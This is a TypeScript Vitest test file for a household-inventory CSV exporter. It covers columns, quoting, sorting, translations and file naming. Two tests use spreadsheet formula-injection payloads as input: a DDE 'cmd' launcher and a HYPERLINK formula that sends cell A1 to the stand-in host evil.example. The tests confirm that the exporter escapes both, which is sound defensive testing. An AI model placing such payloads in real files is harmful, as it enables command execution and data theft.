import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { csvColumns, csvFileName, inventoryCsv, type CsvLabels, type InventoryCsvRow } from "./inventoryCsv";

const labels: CsvLabels = {
  headers: {
    room: "Room",
    location: "Location",
    item: "Item",
    quantity: "Quantity",
    category: "Category",
    condition: "Condition",
    notes: "Notes",
    container: "Container",
    added: "Added",
    lastUpdated: "Last updated",
    imageUrl: "Image URL",
  },
  conditions: { new: "New", good: "Good", fair: "Fair", poor: "Poor" },
  yes: "Yes",
  no: "No",
};

const day = (iso: string) => new Date(iso).getTime();

function row(over: Partial<InventoryCsvRow>): InventoryCsvRow {
  return {
    room: "Kitchen",
    path: [],
    name: "Kettle",
    quantity: 1,
    category: "Appliances",
    condition: "good",
    container: false,
    added: day("2025-03-14T09:30:00"),
    lastUpdated: day("2025-04-01T18:05:00"),
    ...over,
  };
}

function parse(csv: string): string[][] {
  const result = Papa.parse<string[]>(csv, { skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe("inventory CSV", () => {
  test("the header row holds the translated column names in order", () => {
    const [header] = parse(inventoryCsv([], labels));
    expect(header).toEqual(csvColumns.map((column) => labels.headers[column]));
    expect(header).toEqual([
      "Room",
      "Location",
      "Item",
      "Quantity",
      "Category",
      "Condition",
      "Notes",
      "Container",
      "Added",
      "Last updated",
      "Image URL",
    ]);
  });

  test("a row reads back exactly: path joined with ›, dates, condition and container in words", () => {
    const csv = inventoryCsv(
      [
        row({
          room: "Master Bedroom",
          path: ["Wardrobe", "Shoe Box"],
          name: "Boots",
          quantity: 2,
          category: "Clothing",
          condition: "fair",
          notes: "Winter only",
          imageUrl: "https://example.com/boots.jpg",
        }),
        row({ room: "Master Bedroom", name: "Wardrobe", category: "Furniture", container: true }),
      ],
      labels,
    );
    // The room's top level comes before what is inside its containers.
    const [, wardrobe, boots] = parse(csv);
    expect(boots).toEqual([
      "Master Bedroom",
      "Wardrobe › Shoe Box",
      "Boots",
      "2",
      "Clothing",
      "Fair",
      "Winter only",
      "No",
      "2025-03-14",
      "2025-04-01 18:05",
      "https://example.com/boots.jpg",
    ]);
    expect(wardrobe[1]).toBe("");
    expect(wardrobe[7]).toBe("Yes");
    expect(wardrobe[10]).toBe("");
  });

  test("commas, quotes, line breaks and non-ASCII names survive the round trip", () => {
    const tricky = row({
      room: "Chambre d'Amélie",
      path: ["Armoire, grande", 'Boîte "rouge"'],
      name: 'Ski boots, size 42 "Größe"',
      category: "Ropa; invierno",
      notes: "Line one\nLine two\r\nLine three, with a comma",
    });
    const cells = parse(inventoryCsv([tricky, row({ name: "日本の急須 🍵" })], labels));
    expect(cells).toHaveLength(3);
    expect(cells[1].slice(0, 5)).toEqual([
      "Chambre d'Amélie",
      'Armoire, grande › Boîte "rouge"',
      'Ski boots, size 42 "Größe"',
      "1",
      "Ropa; invierno",
    ]);
    expect(cells[1][6]).toBe("Line one\nLine two\r\nLine three, with a comma");
    expect(cells[2][2]).toBe("日本の急須 🍵");
  });

  test("text a spreadsheet would run as a formula is kept as text; a harmless name keeps its sign and no apostrophe", () => {
    const cells = parse(inventoryCsv([row({ name: "=HYPERLINK(\"http://evil\")", notes: "+cmd|' /C calc'!A0" }), row({ name: "+44 phone charger", notes: "-1 spare" })], labels));
    const [harmless, formula] = [cells.find((cell) => cell[2].startsWith("+"))!, cells.find((cell) => cell[2].startsWith("'"))!];
    expect(formula[2]).toBe("'=HYPERLINK(\"http://evil\")");
    expect(formula[6]).toBe("'+cmd|' /C calc'!A0");
    expect(harmless[2]).toBe("+44 phone charger");
    expect(harmless[6]).toBe("-1 spare");
  });

  test("rows come room by room, then by where they sit, then by name, however the pages arrived", () => {
    const rows = [
      row({ room: "Kitchen", path: [], name: "Kettle" }),
      row({ room: "Bedroom", path: ["Wardrobe"], name: "Coat" }),
      row({ room: "Kitchen", path: ["Cupboard"], name: "Bowl" }),
      row({ room: "Bedroom", path: [], name: "Lamp" }),
      row({ room: "Kitchen", path: [], name: "Apron" }),
    ];
    const cells = parse(inventoryCsv(rows, labels));
    expect(cells.slice(1).map((cell) => [cell[0], cell[1], cell[2]])).toEqual([
      ["Bedroom", "", "Lamp"],
      ["Bedroom", "Wardrobe", "Coat"],
      ["Kitchen", "", "Apron"],
      ["Kitchen", "", "Kettle"],
      ["Kitchen", "Cupboard", "Bowl"],
    ]);
  });

  test("a formula on several lines (an item's notes) is kept as text too", () => {
    const notes = '=HYPERLINK("http://evil.example/?d="&A1,"Receipt")\nKept in the drawer';
    const cells = parse(inventoryCsv([row({ name: "Lamp", notes })], labels));
    expect(cells[1][6]).toBe(`'${notes}`);
  });

  test("translated headers and words are used as given", () => {
    const french: CsvLabels = {
      ...labels,
      headers: { ...labels.headers, room: "Pièce", lastUpdated: "Dernière mise à jour" },
      conditions: { new: "Neuf", good: "Bon", fair: "Correct", poor: "Mauvais" },
      yes: "Oui",
    };
    const cells = parse(inventoryCsv([row({ container: true, condition: "new" })], french));
    expect(cells[0][0]).toBe("Pièce");
    expect(cells[0][9]).toBe("Dernière mise à jour");
    expect(cells[1][5]).toBe("Neuf");
    expect(cells[1][7]).toBe("Oui");
  });

  test("the file is named after the day", () => {
    expect(csvFileName(new Date(2025, 2, 4))).toBe("household-inventory-2025-03-04.csv");
  });
});
